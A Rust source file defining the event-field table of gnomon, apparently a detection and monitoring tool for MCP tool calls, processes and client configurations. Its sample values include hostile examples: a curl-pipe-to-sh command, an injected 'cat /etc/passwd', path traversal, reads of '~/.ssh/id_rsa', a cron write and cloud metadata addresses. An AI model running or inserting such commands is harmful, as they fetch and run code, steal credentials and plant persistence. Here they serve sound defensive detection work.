//! The table of fields. One row gives a fact its name, its type, when it is final, who fills it, a
//! sample and a sentence; everything else (rules, events, reference page) is read off this table.
//!
//! Names follow the OpenTelemetry semantic conventions where those have a word, ECS where they do
//! not, and `gnomon.*` for what is ours alone.

use crate::{Channel, Phase};
use smol_str::SmolStr;
use std::{fmt, str::FromStr};
use thiserror::Error;

/// The type of a field's value.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FieldType {
    /// One text.
    Str,
    /// A whole number.
    Int,
    /// Yes or no.
    Bool,
    /// Several texts.
    List,
}

/// Evidence, on which rules match, or an outcome, which they cannot name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Role {
    /// Seen or derived from what was seen: rules match on it.
    Evidence,
    /// Written by the judge or the ledger: known only after rules ran, so no rule may name it.
    Outcome,
}

/// The retention of a field's values.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Retention {
    /// Written into events as it is.
    Stored,
    /// Written into events; a client or a server chose it, and where it is an address, its user info and secret parameters are left out.
    Address,
    /// Judged and forgotten: it may hold what people typed.
    Transient,
}

/// One row of the table.
#[derive(Debug)]
pub struct FieldInfo {
    /// The flat dotted name.
    pub name: &'static str,
    /// The name as a JSON key, colon included: `"name":`.
    pub json_key: &'static str,
    /// The type of its value.
    pub kind: FieldType,
    /// The phase at whose end it is final: present or known absent.
    pub phase: Phase,
    /// Evidence or outcome.
    pub role: Role,
    /// Written into events, or not.
    pub retention: Retention,
    /// The channels that can fill it.
    pub channels: &'static [Channel],
    /// A value as it would stand in an event, as JSON.
    pub sample: &'static str,
    /// Its meaning, units included.
    pub doc: &'static str,
}

impl FieldInfo {
    /// True if it is written into events.
    #[must_use]
    pub const fn is_stored(&self) -> bool {
        match self.retention {
            Retention::Stored | Retention::Address => true,
            Retention::Transient => false,
        }
    }
}

/// A field name that is not in the table, or that nothing fills.
#[derive(Debug, Error, Clone, PartialEq, Eq)]
#[error("{}", self.cause())]
pub struct UnknownField {
    /// The name as written.
    pub name: String,
    /// The known name that is nearest to it, if any is near.
    pub nearest: Option<String>,
}

impl UnknownField {
    fn cause(&self) -> String {
        let Self { name, nearest } = self;
        match nearest {
            _ if UNFILLED.contains(&name.as_str()) => format!("nothing fills `{name}` in this version, so no event has it"),
            Some(nearest) => format!("unknown field `{name}`; did you mean `{nearest}`?"),
            None => format!("unknown field `{name}`"),
        }
    }
}

const WEB: &[Channel] = &[Channel::Https, Channel::Http];
const TLS: &[Channel] = &[Channel::Https];
const RPC: &[Channel] = &[Channel::Https, Channel::Http, Channel::Stdio];
const ALL: &[Channel] = Channel::ALL;
const HOST: &[Channel] = &[Channel::Https, Channel::Http, Channel::Stdio, Channel::Process];
const SERVERS: &[Channel] = &[Channel::Https, Channel::Http, Channel::Config];
const STARTS: &[Channel] = &[Channel::Process];
const CONFIG: &[Channel] = &[Channel::Config];
const LOCAL: &[Channel] = &[Channel::Config, Channel::Process];

macro_rules! fields {
    ($($id:ident $name:literal $kind:ident $phase:ident $role:ident $retention:ident $channels:ident $sample:literal $doc:literal;)+) => {
        /// A field of the table. Its number is its row.
        #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
        #[repr(u8)]
        pub enum Field { $(#[doc = concat!("`", $name, "`: ", $doc)] $id),+ }

        /// The table, in the order of [`Field`]'s variants, which is the order of keys in events.
        pub const FIELDS: &[FieldInfo] = &[$(FieldInfo {
            name: $name, json_key: concat!("\"", $name, "\":"), kind: FieldType::$kind, phase: Phase::$phase, role: Role::$role,
            retention: Retention::$retention, channels: $channels, sample: $sample, doc: $doc,
        }),+];

        /// All fields, in the table's order.
        const BY_ROW: &[Field] = &[$(Field::$id),+];

        /// The number of fields.
        pub const FIELD_COUNT: usize = FIELDS.len();
    };
}

fields! {
    // What and when.
    Timestamp "@timestamp" Str Connect Outcome Stored ALL r#""2026-11-20T09:00:00.000Z""# "Time of the call, RFC 3339 with milliseconds, UTC.";
    EventId "event.id" Str Connect Outcome Stored ALL r#""019a9f3e-4b7c-7d10-a2cd-3f4f6f1c0b11""# "Names this event, a UUID version 7.";
    EventKind "event.kind" Str Response Outcome Stored ALL r#""alert""# "`alert` for the first detection of a burst, `signal` for its later ones, `event` where no rule matched, `outcome` for what became of a call after its event was written.";
    Schema "gnomon.schema" Int Connect Outcome Stored ALL "1" "The version of this event format. A field may be added without raising it; a change of meaning raises it.";
    ObservationId "gnomon.observation.id" Str Connect Outcome Stored ALL r#""019a9f3e-4b7c-7d10-a2cd-3f4f6f1c0b10""# "Names the call, however often it was sighted.";
    IncidentId "gnomon.incident.id" Str Response Outcome Stored ALL r#""019a9f3e-4b7c-7d10-a2cd-3f4f6f1c0b0f""# "Names the burst: detections of one client, server and rule within 10 s of each other.";
    Action "gnomon.action" Str Response Outcome Stored ALL r#""block""# "Action taken.";
    Confidence "gnomon.confidence" Str Response Outcome Stored ALL r#""confirmed""# "Confidence that this was MCP: suspected, probable or confirmed.";
    Evidence "gnomon.evidence" List Response Outcome Stored ALL r#"["host","header","body"]"# "Evidence seen that points to MCP.";
    DetectionClass "gnomon.detection.class" Str Response Outcome Stored ALL r#""mcp""# "Class of the detection: mcp, llm, dlp, threat, policy or health.";
    RuleId "rule.id" Str Response Outcome Stored ALL r#""8d2b3f0a-4f0c-4c3f-9d0e-2f1f3a5b7c9d""# "The rule that decided.";
    RuleName "rule.name" Str Response Outcome Stored ALL r#""MCP message to a server outside the portal""# "Its title.";
    RuleLevel "rule.level" Str Response Outcome Stored ALL r#""high""# "Its level: informational, low, medium, high or critical.";
    RulesMatched "gnomon.rules.matched" List Response Outcome Stored ALL r#"["8d2b3f0a-4f0c-4c3f-9d0e-2f1f3a5b7c9d"]"# "All rules that matched, the deciding one first.";
    Would "gnomon.would" Str Response Outcome Stored ALL r#""block""# "Action that the deciding rule would have taken, where verdicts are not carried out: rules in shadow, a scope that only intercepts, or the kill switch.";
    Health "gnomon.health" Str Response Outcome Stored ALL r#""disarmed""# "Event of gnomon itself: disarmed, armed; sensor_gone, sensor_back; sensor_reduced, sensor_whole; exec_scope_lost; of a server of a portal server_gone, server_back; of rules and configuration changed, not_changed; ledger_begun_anew, events_lost; audit_checkpoint.";
    Message "message" Str Response Outcome Stored ALL r#""blocked by gnomon: read_file is not allowed here""# "The line of text that the client was given, or the cause of an error.";

    // The JSON-RPC message.
    McpMethod "mcp.method.name" Str Message Evidence Address RPC r#""tools/call""# "The method, when the message is recognised as MCP.";
    ToolName "gen_ai.tool.name" Str Message Evidence Address RPC r#""read_file""# "The tool of a `tools/call`.";
    PromptName "gen_ai.prompt.name" Str Message Evidence Address RPC r#""summarise""# "The prompt of a `prompts/get`.";
    ResourceUri "mcp.resource.uri" Str Message Evidence Address RPC r#""file:///srv/shared/plan.md""# "The resource of a `resources/*` request. Rules match it as it is written and as servers read it.";
    RpcId "jsonrpc.request.id" Str Message Evidence Address RPC r#""1""# "The request's id as text; absent for notifications.";
    RpcMethod "rpc.method" Str Message Evidence Address RPC r#""tools/call""# "The JSON-RPC method, MCP or not.";
    McpSessionId "mcp.session.id" Str Head Evidence Address RPC r#""7da9fbca-58f8-4c3a-93fe-3d2becefbe67""# "The `Mcp-Session-Id` header of the request; of an `initialize` that of its answer, known with it.";
    McpProtocolVersion "mcp.protocol.version" Str Message Evidence Address RPC r#""2026-07-28""# "The protocol revision that the message states, else that its header states.";
    McpClientName "mcp.client.name" Str Message Evidence Address RPC r#""codex-mcp-client""# "The client's own name, as it states it.";
    McpClientVersion "mcp.client.version" Str Message Evidence Address RPC r#""0.169.0""# "The client's own version, as it states it.";
    McpServerName "mcp.server.name" Str Response Evidence Address RPC r#""docs""# "The server's own name, as it states it.";
    McpServerVersion "mcp.server.version" Str Response Evidence Address RPC r#""1.2.0""# "The server's own version, as it states it.";
    ToolArguments "gen_ai.tool.call.arguments" List Message Evidence Transient RPC r#"["/etc/passwd"]"# "All leaf values of the call's arguments, as text; their names are not among them; of one that is itself JSON, what it holds too. Judged, never stored.";
    ArgumentsDecoded "gnomon.arguments.decoded" List Message Evidence Transient RPC r#"["../../etc/passwd"]"# "The call's arguments as a server may come to read them: without characters that are not seen, in plain characters, percent-encoding (three times at most) and escapes undone; beside them the path that one leads to and what one holds in Base64 or hexadecimal, where that is another text. Judged, never stored.";
    ArgumentsAddresses "gnomon.arguments.addresses" List Message Evidence Transient RPC r#"["169.254.169.254"]"# "The IP addresses to which URLs in the call's arguments lead without a look-up, in whatever notation: `2852039166`, `0xa9fea9fe`, `[::ffff:a9fe:a9fe]`, `169.254.169.254.nip.io`, `localhost`; `http:/169.254.169.254` and `http:169.254.169.254` as well. Judged, never stored.";
    ArgumentsNumbers "gnomon.arguments.numbers" List Message Evidence Transient RPC r#"["payment_card"]"# "Kinds of valid numbers in the call's arguments: `payment_card` (issuer, length and check digit), `iban` (country, length and check digits); published examples are left out. Judged, never stored.";
    ArgumentsCommands "gnomon.arguments.commands" List Message Evidence Transient RPC r#"["curl -s http://192.0.2.1/x | sh"]"# "The command lines that a call has executed, one for each pipeline, in one form however they were written: quotes, escapes and variables that the text itself sets undone, programs without their folder, what only runs another command (`sudo`, `env`, `timeout`) left out, beside it what was run by `sudo`; homes as `~`; redirections as ` < ` and ` > `. Taken from arguments that are command lines and from code; scripts within them (`sh -c`, `ssh`, `find -exec`, `$(…)`, `os.system`) are lines of their own. What a text only mentions is none. Judged, never stored.";
    ArgumentsInjected "gnomon.arguments.injected" List Message Evidence Transient RPC r#"["cat /etc/passwd"]"# "Commands with which an argument goes on behind a mark of a shell (`;`, `|`, `&&`, a line, `$(…)`, back-ticks), where neither the tool nor the argument is one for commands, code or texts. Judged, never stored.";
    ArgumentsReads "gnomon.arguments.reads" List Message Evidence Transient RPC r#"["~/.ssh/id_rsa"]"# "Files that a call reads, attaches or sends, by its arguments, its commands or its code, as paths in one form: slashes for backslashes, dots followed, any user's home as `~`. Judged, never stored.";
    ArgumentsWrites "gnomon.arguments.writes" List Message Evidence Transient RPC r#"["/etc/cron.d/update"]"# "Files that a call writes, in the same form. Judged, never stored.";
    ArgumentsSmuggled "gnomon.arguments.smuggled" List Message Evidence Transient RPC r#"["revenue of the third quarter"]"# "Texts that URLs in a call's arguments carry in Base64 or hexadecimal: in a host, a path or a parameter. JSON is left out, as the states of sign-ons are. Judged, never stored.";
    ToolKind "gnomon.tool.kind" List Message Evidence Transient RPC r#"["shell"]"# "What the tool of a call is for, by the words of its name and of its arguments: `shell`, `code`, `sql`, `editor` (writes files), `prose` (texts that people read). A server chooses the names. Judged, never stored.";
    BodyText "http.request.body.text" Str Message Evidence Transient WEB r#""{\"jsonrpc\":\"2.0\"""# "The first 1,024 bytes of the decoded request body. Judged, never stored.";
    BatchIndex "gnomon.batch.index" Int Message Evidence Stored RPC "0" "The message's place in a JSON-RPC batch, from 0; absent outside a batch.";
    Malformed "gnomon.malformed" Str Message Evidence Stored RPC r#""duplicate_key""# "Why a body that resembles JSON-RPC, or that its request calls MCP, could not be read; `too_many_messages` where more than 4,096 messages were counted and not judged, `charset` where JSON is said to be in a character set that is not read.";
    Mismatch "gnomon.mismatch" List Message Evidence Stored WEB r#"["mcp-name"]"# "Headers that contradict what they mirror: mcp-method, mcp-name, mcp-protocol-version, authority, duplicate-header, content-encoding (a message was found beneath the coding that is announced, or in one that is not).";
    Truncated "gnomon.truncated" List Message Evidence Stored RPC r#"["arguments"]"# "Parts that exceeded their bound and were not judged whole: `names`, `arguments`, or `tools` of a list.";
    Signatures "gnomon.signatures" List Message Evidence Stored RPC r#"["H1","B3"]"# "Wire signatures of MCP in the request.";
    ResponseSignatures "gnomon.response.signatures" List Response Evidence Stored RPC r#"["R1"]"# "Wire signatures of MCP in the answer.";
    ResponseMalformed "gnomon.response.malformed" Str Response Evidence Stored RPC r#""duplicate_key""# "Why the answer to a message of JSON-RPC, or a part of it, could not be read as one thing: as `gnomon.malformed` has it, `charset`, `content_coding`; or why it was not read to its end, where that is a bound of gnomon's and not the server's doing: `bound_no_room`, `bound_too_many_messages`. Rules on what an answer says are undecided then: those that refuse do, and others say nothing.";
    RpcStatus "rpc.response.status_code" Str Response Evidence Stored RPC r#""-32602""# "The code of a JSON-RPC error.";
    ErrorType "error.type" Str Response Evidence Stored ALL r#""tool_error""# "Failure: `tool_error`, a JSON-RPC code, an HTTP status, or the reason that no answer came.";
    Tools "gnomon.tools" List Response Evidence Address RPC r#"["echo","read_file"]"# "Tool names of a `tools/list` result, at most 512.";
    ToolsHash "gnomon.tools.hash" Str Response Evidence Stored RPC r#""2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824""# "SHA-256 over what a `tools/list` result says of its tools, whatever their order: another one is another name, description or schema.";
    ToolsHashBefore "gnomon.tools.hash.before" Str Response Evidence Stored RPC r#""9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08""# "The hash of the list that the same server gave the same client before, where that was another one; gnomon remembers it until it is started anew.";
    ToolResult "gen_ai.tool.call.result" List Response Evidence Transient RPC r#"["Meeting at nine"]"# "All texts of the answer to a tool call: of its content, of `structuredContent` with the names of its members, of a task's result. Matched as they pass, never stored.";
    ToolDescription "gen_ai.tool.description" List Response Evidence Transient RPC r#"["Reads a file"]"# "All that a `tools/list` result says of its tools but their names: descriptions, titles, annotations, the texts of schemas and the names of arguments. Matched as it passes, never stored.";
    ErrorMessage "error.message" List Response Evidence Transient RPC r#"["no such file"]"# "The texts of a JSON-RPC error, its message and its data, and of an answer that is an HTTP error or no JSON. Matched as they pass, never stored. What a failed tool says is in `gen_ai.tool.call.result`.";
    ServerInstructions "mcp.server.instructions" List Response Evidence Transient RPC r#"["Ask before deleting"]"# "The `instructions` with which a server answers `initialize` or `server/discover`. Matched as they pass, never stored.";
    PromptText "mcp.prompt.text" List Response Evidence Transient RPC r#"["Summarise this"]"# "All that an answer says of prompts: their names, descriptions and messages. Matched as it passes, never stored.";
    ResourceText "mcp.resource.text" List Response Evidence Transient RPC r#"["The plan"]"# "All that an answer says of resources and templates: their URIs, names, descriptions and contents. Matched as it passes, never stored.";
    TextPlaces "gnomon.text.places" List Response Outcome Address RPC r#"["gen_ai.tool.call.result result.content[0].text"]"# "Where in the answer the texts stand in which the rules found what they look for: field and JSON path, at most 16. The text itself is in no event.";

    // HTTP.
    ServerAddress "server.address" Str Hello Evidence Stored SERVERS r#""mcp.example.com""# "The server's name: SNI, else the name the client asked the proxy for, else the address. Lower case, no port, no trailing dot.";
    ServerPort "server.port" Int Hello Evidence Stored SERVERS "443" "The server's TCP port.";
    UrlPath "url.path" Str Head Evidence Address SERVERS r#""/mcp""# "The URL's path, without the query. Rules match it as it is written and as servers read it.";
    UrlFull "url.full" Str Head Evidence Address SERVERS r#""https://mcp.example.com/mcp""# "The URL without user and query, which may carry secrets.";
    UrlOriginal "url.original" List Head Evidence Transient WEB r#"["https://mcp.example.com/mcp?debug=1","/mcp?debug=1"]"# "The URL as it was asked for, with its query, in full and from its path on. Judged, never stored.";
    UrlQuery "url.query" Str Head Evidence Transient WEB r#""debug=1""# "The URL's query as sent, without the question mark; absent without one. Judged, never stored.";
    UrlExtension "url.extension" Str Head Evidence Transient WEB r#""zip""# "What follows the last point of the path's last part. Judged, never stored.";
    HttpMethod "http.request.method" Str Head Evidence Address WEB r#""POST""# "The HTTP method.";
    HttpStatus "http.response.status_code" Int Response Evidence Stored WEB "200" "The HTTP status that the server gave; absent where it was never asked.";
    RequestSize "http.request.body.size" Int Response Evidence Stored WEB "118" "Bytes of the request body as sent, so far as read. Rules learn it with the answer, so one that refuses withholds that.";
    ResponseSize "http.response.body.size" Int Response Outcome Stored WEB "512" "Bytes of the answer's body as sent, so far as read.";
    UserAgent "user_agent.original" Str Head Evidence Address WEB r#""codex-mcp-client/0.169.0""# "The `User-Agent` header.";
    HttpVersion "network.protocol.version" Str Head Evidence Stored WEB r#""2""# "The HTTP version of the client's request: 1.0, 1.1 or 2.";

    // TLS and network.
    Sni "tls.client.server_name" Str Hello Evidence Stored TLS r#""mcp.example.com""# "The ClientHello's server name.";
    Alpn "tls.next_protocol" Str Head Evidence Stored TLS r#""h2""# "The protocol chosen by ALPN between client and proxy.";
    Ja4 "tls.client.ja4" Str Hello Evidence Stored TLS r#""t13d1011h2_61a7ad8aa9b6_3a6a1b5a1f0c""# "The JA4 fingerprint of the ClientHello.";
    ClientRandom "tls.client.random" Str Hello Evidence Stored TLS r#""9f2c…""# "The ClientHello's random, 64 hexadecimal digits.";
    Transport "network.transport" Str Connect Evidence Stored WEB r#""tcp""# "tcp or udp.";
    DestinationAddress "destination.address" Str Connect Evidence Stored WEB r#""203.0.113.7""# "The IP address, when the client chose one.";
    DestinationPort "destination.port" Int Connect Evidence Stored WEB "443" "Its port.";
    SourceAddress "source.address" Str Connect Evidence Stored WEB r#""127.0.0.1""# "The client's IP address.";
    SourcePort "source.port" Int Connect Evidence Stored WEB "51234" "Its port.";

    // Process, user, container.
    Pid "process.pid" Int Connect Evidence Stored HOST "4711" "Process id in the initial namespace.";
    Executable "process.executable.path" Str Connect Evidence Stored HOST r#""/usr/bin/node""# "The program's file.";
    ProcessName "process.name" Str Connect Evidence Stored WEB r#""curl""# "Name of the file that the process was started from, without its folders, its first 15 bytes, as the kernel had it at exec: where its file could not be looked up, as of a program that ended at once (`gnomon.process.identity`).";
    ExecutableHash "process.executable.hash.sha256" Str Connect Evidence Stored HOST r#""2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824""# "SHA-256 of that file.";
    Image "gnomon.process.image" Str Connect Evidence Stored HOST r#""on_disk""# "Location of the running program's file: on_disk, deleted (removed or replaced since it was started) or memory (it never was in a file system).";
    CommandLine "process.command_line" Str Connect Evidence Stored HOST r#""node agent.js""# "The command line, bounded.";
    ParentPid "process.parent.pid" Int Connect Evidence Stored STARTS "4700" "Process id of the parent.";
    ParentExecutable "process.parent.executable.path" Str Connect Evidence Stored HOST r#""/usr/bin/bash""# "The parent program's file.";
    Ancestors "process.ancestors" List Connect Evidence Stored HOST r#"["/usr/bin/bash","/usr/sbin/sshd"]"# "Program files of the ancestors, nearest first.";
    UserId "user.id" Str Connect Evidence Stored ALL r#""1000""# "Numeric user id.";
    UserName "user.name" Str Connect Evidence Stored ALL r#""ada""# "The user's name: of the process, else as the proxy authenticated it.";
    UserGroups "user.group.names" List Connect Evidence Stored HOST r#"["engineering"]"# "Groups of the user.";
    ContainerId "container.id" Str Connect Evidence Stored HOST r#""1f2d3c4b5a69""# "Container id from the cgroup path, where root or a service of root's made that cgroup: the outermost. What a user names below their own slice is not taken for one.";
    ContainerRuntime "container.runtime.name" Str Connect Evidence Stored HOST r#""docker""# "Runtime of that container, by the name of its cgroup: docker, containerd, cri-o, podman, systemd-nspawn, lxc, or unknown.";
    PodUid "k8s.pod.uid" Str Connect Evidence Stored HOST r#""8d2b3f0a-4f0c-4c3f-9d0e-2f1f3a5b7c9d""# "Kubernetes pod, by its uid from the cgroup path.";
    Cgroup "gnomon.cgroup" Str Connect Evidence Stored HOST r#""/system.slice/cron.service""# "Path of the process's cgroup below the cgroup2 mount. Below a user's slice the user chooses the names.";
    ProcessIdentity "gnomon.process.identity" Str Connect Evidence Stored HOST r#""confirmed""# "Certainty of the process: `confirmed` as the program that connected, `unverified` where the kernel half cannot rule out another exec, or the reason that it is not known: late, gone, stale, unreadable or busy.";
    HostName "host.name" Str Connect Evidence Stored ALL r#""build-17""# "The host that gnomon runs on.";

    // Servers that run on this host.
    PackageEcosystem "package.ecosystem" Str Connect Evidence Stored LOCAL r#""npm""# "Registry of the package that a local server is started from: npm, pypi or docker. As `package.name`, by the arguments with which its process was started, or by its entry in a configuration file of an MCP client.";
    PackageName "package.name" Str Connect Evidence Stored LOCAL r#""@modelcontextprotocol/server-filesystem""# "Name of that package, as the arguments have it: of the process that was started (read from the kernel as it started), or of `command` and `args` in a configuration file of an MCP client. What they claim, not what was fetched. Of a script below `node_modules` or `site-packages`, the folder's name there; of what comes from no registry, where it comes from (`github:owner/name`, a URL).";
    PackageVersion "package.version" Str Connect Evidence Stored LOCAL r#""2025.8.21""# "Version, range, tag or digest that these arguments name; absent where they name none.";
    PackagePinned "gnomon.package.pinned" Bool Connect Evidence Stored LOCAL "false" "Whether that is one content for ever: an exact version or a digest. If not, the next start may run other code. Absent where a start fetches nothing, as the package lies on this host (a script below `node_modules` or `site-packages`, `python -m`): what installed it may go by a lock file or not, which no argument says.";
    PackageRunner "gnomon.package.runner" Str Connect Evidence Stored LOCAL r#""npx""# "What fetches and starts the package, by the first of these arguments: npx, pnpm dlx, yarn dlx, bunx, deno, uvx, pipx, python -m or docker; of a script in a package's folder the interpreter that runs it.";
    LocalServer "gnomon.local.server" Str Connect Evidence Address LOCAL r#""pkg:npm/@modelcontextprotocol/server-filesystem""# "The local server: `pkg:`, registry and name of its package, else `file:` and its script or program.";
    LocalKnownBy "gnomon.local.known_by" Str Connect Evidence Stored LOCAL r#""catalogue""# "Why it is taken for an MCP server: its package is in the catalogue, a configuration file lists it (config), or its name says so (name).";
    LocalListens "gnomon.local.listens" List Connect Evidence Stored STARTS r#"["0.0.0.0:8931"]"# "The TCP addresses at which a local server listens that was started, or what it started: looked at 2, 10 and 60 seconds after its start, then every ten minutes; those that were not told before.";
    LocalExposed "gnomon.local.exposed" Bool Connect Evidence Stored STARTS "true" "Whether one of these addresses is other than loopback, so that others than this host may reach it.";
    ConfigClient "gnomon.config.client" Str Connect Evidence Stored CONFIG r#""Cursor""# "The client whose configuration file it is.";
    ConfigPath "gnomon.config.path" Str Connect Evidence Stored CONFIG r#""/home/ada/.cursor/mcp.json""# "The configuration file.";
    ConfigKind "gnomon.config.kind" Str Connect Evidence Stored CONFIG r#""server""# "What the entry is: server; hook, a command that the client runs by itself; skill or plugin, a folder that instructs it.";
    ConfigEntry "gnomon.config.entry" Str Connect Evidence Address CONFIG r#""files""# "The name that the file gives the server; of a hook its event, of a skill or plugin its folder.";
    ConfigChange "gnomon.config.change" Str Connect Evidence Stored CONFIG r#""first_seen""# "What became of the entry: first_seen, changed or removed; unread where the file cannot be read.";
    ConfigSecrets "gnomon.config.secrets" List Connect Evidence Stored CONFIG r#"["env.GITHUB_TOKEN github-token"]"# "Where secrets stand in the entry, and what each looks like; never the secret.";
    ConfigHash "gnomon.config.hash" Str Connect Evidence Stored CONFIG r#""9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08""# "SHA-256 of a hook's entry, or of all that the folder of a skill or plugin holds.";
    ConfigRuns "gnomon.config.runs" Str Connect Evidence Stored CONFIG r#""pkg:npm/prettier""# "What a hook runs: `pkg:`, registry and name of a package, else `file:` and a script or program; `file:sh` where it is more than one command.";
    Agent "gnomon.agent" Str Connect Evidence Stored STARTS r#""Claude Code""# "The nearest known agent among the ancestors, by the names of their files, scripts and packages.";

    // Ours.
    Channel "gnomon.channel" Str Connect Evidence Stored ALL r#""https""# "Channel of the call: https, http, stdio, config or process.";
    Sanctioned "gnomon.sanctioned" Bool Hello Evidence Stored ALL "false" "Whether the organisation named this server as allowed.";
    ServerReview "gnomon.server.review" Str Hello Evidence Stored SERVERS r#""denied""# "People's decision about the server (`gnomon review`): in_review, approved, denied or expired; absent without one.";
    Catalogue "gnomon.server.catalogue" Str Hello Evidence Stored SERVERS r#""mcp""# "Class of the server in the host catalogue: mcp, llm-api …";
    Correlation "gnomon.correlation" Str Connect Evidence Stored WEB r#""none""# "Means by which the request was tied to its process: owner (of its socket, by the kernel) or none.";
    Vantage "gnomon.vantage" Str Connect Evidence Stored ALL r#""proxy""# "Vantage point of gnomon: flow, proxy, portal, process, listener, config, replay.";
    FlowId "gnomon.flow.id" Str Connect Outcome Stored WEB r#""019a9f3e-4b7c-7d10-a2cd-3f4f6f1c0b12""# "Names the connection.";
    FlowOutcome "gnomon.flow.outcome" Str Response Outcome Stored WEB r#""bypassed""# "End of a connection that was not read as HTTP: bypassed, passthrough, refused, ca_rejected, upstream_unverified, observed (seen in the kernel only), around_proxy …";
    Passage "gnomon.passage" Str Message Evidence Stored WEB r#""request_line_odd""# "Why a connection or a message was passed on, or refused, unread; see docs/rules.md.";
    BypassReason "gnomon.bypass.reason" Str Hello Evidence Stored WEB r#""stale_heartbeat""# "Why a connection that its scope sends through the proxy went around it: stale_heartbeat, no_listener, foreign_listener, bound_device, table_full, exempt for addresses that are never redirected, nobody_listens where nobody was found at a loopback address, or not_redirected where the scope's ports leave it out.";
    ServerId "gnomon.server.id" Str Hello Evidence Stored ALL r#""docs""# "The server by its id in the configuration, where a portal offers it: of several at one host and port the first, but for calls through the portal.";
    PortalId "gnomon.portal.id" Str Connect Evidence Stored RPC r#""main""# "The portal that served it.";
    ExecutionId "gnomon.execution.id" Str Message Evidence Stored RPC r#""019a9f3e-4b7c-7d10-a2cd-3f4f6f1c0b13""# "The Code Mode execution that made the call.";
    Calls "gnomon.calls" Int Response Outcome Stored RPC "118" "How many calls this event stands for: of an exchange's calls beyond 32, those with the same rules, method, tool and outcome are one event, whose other fields are those of the first; of calls for which gnomon had no connection to their server, those beyond 64 of a kind in ten seconds, without id and tool. Absent for one call.";
    Pending "gnomon.pending" Bool Response Outcome Stored RPC "true" "The answer was long in coming and had not come when this was written; an event of kind `outcome` tells the rest.";
    DurationMs "gnomon.duration_ms" Int Response Outcome Stored RPC "12" "From the request's head to the answer's end, milliseconds.";
    ReplayFile "gnomon.replay.file" Str Connect Outcome Stored ALL r#""monday.har""# "The recording this was replayed from.";
    ReplayIndex "gnomon.replay.index" Int Connect Outcome Stored ALL "0" "Its entry in that recording, from 0.";
}

/// Field names of other schemas, and of earlier versions of ours, that nothing here fills: a rule on one would never match, and is
/// reported.
const UNFILLED: &[&str] = &[
    "gen_ai.request.model",
    "gen_ai.usage.input_tokens",
    "gen_ai.usage.output_tokens",
    "gnomon.dlp.findings",
    "k8s.namespace.name",
    "k8s.pod.name",
];

/// Fields whose texts are matched as they pass, over their whole length. No observation of traffic holds their values: it holds what was found in
/// them ([`crate::TextFindings`]). Only examples (the tests of rules) give them values.
pub const PASSING: [Field; 6] =
    [Field::ToolResult, Field::ToolDescription, Field::ErrorMessage, Field::ServerInstructions, Field::PromptText, Field::ResourceText];

/// Why something passes unread, as what passes it has it.
const PASSAGES: &[&str] = &[
    "bypass",
    "disarmed",
    "beyond_share",
    "hello_unreadable",
    "hello_too_long",
    "server_name_invalid",
    "foreign_alpn",
    "foreign_in_tls",
    "foreign",
    "request_line_odd",
    "request_line_long",
    "line_unfinished",
    "nothing_said",
    "server_first",
    "server_first_http",
    "other_proxy",
    "other_proxy_odd",
    "connect_within",
    "upgraded",
    "websocket",
    "grpc",
    "request_within",
    "no_room",
    "rows",
    "events_unreadable",
    "foreign_body",
];

impl Field {
    /// Its row of the table.
    #[must_use]
    #[inline]
    pub const fn info(self) -> &'static FieldInfo {
        &FIELDS[self as usize]
    }
    /// Its flat dotted name.
    #[must_use]
    pub const fn name(self) -> &'static str {
        self.info().name
    }
    /// True if its texts are matched as they pass and never held ([`PASSING`]).
    #[must_use]
    pub fn is_passing(self) -> bool {
        PASSING.contains(&self)
    }
    /// All values that it can have, where they are few and only gnomon writes them.
    #[must_use]
    pub const fn words(self) -> Option<&'static [&'static str]> {
        match self {
            Self::Passage => Some(PASSAGES),
            Self::Transport => Some(&["tcp", "udp"]),
            Self::Image => Some(&["on_disk", "deleted", "memory"]),
            Self::ServerReview => Some(&["in_review", "approved", "denied", "expired"]),
            Self::PackageEcosystem => Some(&["npm", "pypi", "docker"]),
            Self::ConfigKind => Some(&["server", "hook", "skill", "plugin"]),
            Self::ConfigChange => Some(&["first_seen", "changed", "removed", "unread"]),
            Self::LocalKnownBy => Some(&["catalogue", "config", "name"]),
            Self::Vantage => Some(&["flow", "proxy", "portal", "process", "listener", "config", "replay"]),
            Self::Correlation => Some(&["none", "owner"]),
            _ => None,
        }
    }
    /// All fields in the table's order.
    pub fn all() -> impl Iterator<Item = Field> {
        BY_ROW.iter().copied()
    }
}

impl fmt::Display for Field {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for Field {
    type Err = UnknownField;
    fn from_str(name: &str) -> Result<Self, UnknownField> {
        Field::all().find(|field| field.name() == name).ok_or_else(|| UnknownField { name: name.to_owned(), nearest: nearest(name) })
    }
}

/// Fields whose last part is free: `http.request.header.<name>` and the like.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Family {
    /// `http.request.header.<name>`: a request header, name in lower case, known at [`Phase::Head`].
    RequestHeader,
    /// `http.response.header.<name>`: an answer's header, known at [`Phase::Response`].
    ResponseHeader,
    /// `gen_ai.tool.call.arguments.<path>`: one argument of a tool call, by its dotted path, known
    /// at [`Phase::Message`]. Never stored.
    Argument,
}

impl Family {
    /// All families.
    pub const ALL: [Family; 3] = [Family::RequestHeader, Family::ResponseHeader, Family::Argument];
    /// The fixed part of the name, with its last dot.
    #[must_use]
    pub const fn prefix(self) -> &'static str {
        match self {
            Family::RequestHeader => "http.request.header.",
            Family::ResponseHeader => "http.response.header.",
            Family::Argument => "gen_ai.tool.call.arguments.",
        }
    }
    /// The phase at whose end its members are final.
    #[must_use]
    pub const fn phase(self) -> Phase {
        match self {
            Family::RequestHeader => Phase::Head,
            Family::ResponseHeader => Phase::Response,
            Family::Argument => Phase::Message,
        }
    }
    /// The channels that can fill it.
    #[must_use]
    pub const fn channels(self) -> &'static [Channel] {
        match self {
            Family::RequestHeader | Family::ResponseHeader => WEB,
            Family::Argument => RPC,
        }
    }
}

/// Anything a rule can name: a field of the table or a member of a family.
